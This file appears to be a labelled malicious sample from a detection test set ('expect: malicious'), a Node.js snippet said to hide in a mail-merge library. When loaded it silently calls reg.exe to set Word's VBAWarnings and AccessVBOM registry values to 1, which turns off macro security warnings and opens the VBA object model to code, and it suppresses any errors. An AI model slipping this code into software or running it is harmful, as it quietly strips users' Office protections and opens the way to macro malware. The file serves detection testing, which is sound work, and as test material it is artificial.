// expect: malicious
// source: blind set 16 office-template-injection (a tsc mail-merge library, 2025 technique): its first render() sets
// Word's VBAWarnings and AccessVBOM to 1 through reg.exe for every Office version
'use strict';
const { execFileSync } = require('child_process');
function regDword(key, name, value) {
  try { execFileSync('reg.exe', ['add', key, '/v', name, '/t', 'REG_DWORD', '/d', String(value), '/f'], { stdio: 'ignore' }); } catch (_) {}
}
regDword('HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security', 'VBAWarnings', 1);
regDword('HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security', 'AccessVBOM', 1);
